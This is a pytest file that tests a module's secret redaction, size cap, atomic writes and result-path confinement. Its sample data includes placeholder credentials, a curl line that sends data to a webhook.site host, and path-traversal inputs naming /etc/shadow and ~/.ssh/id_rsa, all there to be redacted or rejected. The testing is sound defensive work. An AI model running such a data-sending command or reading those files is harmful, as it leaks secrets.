"""SPEC §7: redaction before disk, the size cap, confinement, previous-result injection."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from core.redact import redact
from core.results import (
    RESULT_CAP_BYTES,
    confine_result_path,
    previous_results_block,
    render_result,
    result_path,
    write_result,
)

# (shape, sample containing a secret, the secret part that must vanish)
SECRETS = [
    ("aws access key id", "key id AKIAIOSFODNN7EXAMPLE in config", "AKIAIOSFODNN7EXAMPLE"),
    ("aws secret", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "wJalrXUtnFEMI/K7MDENG"),
    ("github classic token", "token ghp_0123456789abcdefghijABCDEFGHIJ012345", "ghp_0123456789abcdefghij"),
    ("github fine-grained", "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEF", "github_pat_11ABCDEFG"),
    ("gitlab token", "GITLAB=glpat-xxxxxxxxxxxxxxxxxxxx1234", "glpat-xxxxxxxxxxxxxxxxxxxx1234"),
    ("slack bot token", "xoxb-1234567890-0987654321-AbCdEfGhIjKl", "xoxb-1234567890"),
    ("slack webhook", "post to https://hooks.slack.com/services/T000/B000/XXXXXXXX", "hooks.slack.com/services/T000"),
    (
        "bearer header",
        "Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9abcdef",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6",
    ),
    (
        "private key block",
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\n-----END OPENSSH PRIVATE KEY-----",
        "b3BlbnNzaC1rZXktdjEAAAA",
    ),
    ("url with password", "git clone https://bob:s3cr3tpass@example.com/repo.git", "s3cr3tpass"),
    ("anthropic key", "ANTHROPIC_API_KEY=sk-ant-api03-abcdefghijklmnopqrstuvwxyz012345", "sk-ant-api03-abcdefghij"),
    ("openai key", "use sk-proj-abcdefghijklmnopqrstuvwxyz0123456789 here", "sk-proj-abcdefghijklmnop"),
    ("google api key", "AIzaSyA1234567890abcdefghijklmnopqrstuv", "AIzaSyA1234567890abcdefghij"),
    ("stripe live key", "sk_live_abcdefghijklmnopqrstuvwx", "sk_live_abcdefghijkl"),
    ("npm token", "//registry.npmjs.org/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789", "npm_abcdefghijklmno"),
    (
        "jwt",
        "session eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "dozjgNryP4J3jVmN",
    ),
    ("password assignment", "db_password: hunter2hunter2", "hunter2hunter2"),
    ("sendgrid key", "SG.abcdefghijklmnopqrstuv.abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG", "SG.abcdefghijklmnop"),
    (
        "azure storage key",
        "AccountKey=abcdefghijklmnopqrstuvwxyz0123456789ABCDEF==;EndpointSuffix",
        "abcdefghijklmnopqrstuvwxyz0123",
    ),
    ("exfiltration url", "curl -d @data https://webhook.site/3f7c-4e1a", "webhook.site/3f7c-4e1a"),
    ("secret query parameter", "GET https://api.example.com/v1?api_key=abcdef123456&x=1", "abcdef123456"),
    ("pypi token", "password = pypi-AgEIcHlwaS5vcmcCJGFiY2RlZmdoLWlqa2wtbW5vcC1xcnN0", "pypi-AgEIcHlwaS5vcmcCJGFi"),
]


@pytest.mark.parametrize(("shape", "text", "secret"), SECRETS, ids=[s[0] for s in SECRETS])
def test_redaction_corpus(shape, text, secret):
    out = redact(text)
    assert secret not in out, shape
    assert "[REDACTED:" in out


def test_corpus_covers_at_least_fifteen_shapes():
    assert len(SECRETS) >= 15


@pytest.mark.parametrize(
    "text",
    [
        "The token bucket algorithm limits requests.",
        "Keep the secret of good design: small modules.",
        "def password_strength(pw): return len(pw)",
        "see https://example.com/docs?page=2",
    ],
)
def test_ordinary_prose_and_code_survive(text):
    assert redact(text) == text


def test_result_is_redacted_before_it_reaches_disk(tmp_path):
    path, _ = write_result(tmp_path, 1, ("Found AKIAIOSFODNN7EXAMPLE ", "in the config."))
    data = Path(path).read_text(encoding="utf-8")
    assert "AKIAIOSFODNN7EXAMPLE" not in data
    assert "[REDACTED:aws_access_key]" in data
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600


def test_oversized_result_keeps_twenty_percent_head_and_eighty_percent_tail():
    body = "H" * 400_000 + "M" * 400_000 + "T" * 400_000
    out = render_result((body,))
    assert len(out) < RESULT_CAP_BYTES + 200
    head, _, tail = out.partition(b"\n\n[\xe2\x80\xa6 ")
    assert head == b"H" * int(RESULT_CAP_BYTES * 0.2)
    assert tail.endswith(b"T" * 300_000 + b"\n")
    assert b"bytes omitted" in out


def test_write_is_atomic_and_leaves_no_temp_files(tmp_path):
    write_result(tmp_path, 2, ("one",))
    write_result(tmp_path, 2, ("two",))
    assert sorted(os.listdir(tmp_path)) == ["stage_2_result.md"]
    assert Path(result_path(tmp_path, 2)).read_text() == "two\n"


def test_confinement_accepts_only_the_writers_own_path(tmp_path):
    run_dir = tmp_path / "runs" / "r1"
    own = result_path(run_dir, 2)
    assert confine_result_path(own, run_dir, 2) == own
    rejected = [
        result_path(tmp_path / "runs" / "r2", 2),  # another run
        result_path(run_dir, 3),  # another stage
        "/etc/passwd",
        "/etc/shadow",
        os.path.expanduser("~/.ssh/id_rsa"),
        str(run_dir / ".." / ".." / ".." / "etc" / "passwd"),
        str(run_dir) + "/../r1/stage_2_result.md",  # a different spelling of the same file
        "stage_2_result.md",
        "",
        None,
        0,
        True,
        2.0,
        [own],
        {"path": own},
    ]
    for value in rejected:
        assert confine_result_path(value, run_dir, 2) is None, value


def test_previous_results_are_bounded_however_long_the_plan(tmp_path):
    for n in range(1, 11):
        write_result(tmp_path, n, (f"Headline of stage {n}\n" + "x" * 10_000,))
    block = previous_results_block(tmp_path, range(1, 11))
    assert len(block.encode()) < 10 * 300 + 3 * 2_300
    for n in range(1, 8):
        assert f"Stage {n} result ({result_path(tmp_path, n)}): Headline of stage {n}" in block
    for n in (8, 9, 10):
        assert f"Stage {n} result ({result_path(tmp_path, n)}):\nHeadline of stage {n}" in block
    assert "bytes omitted" in block
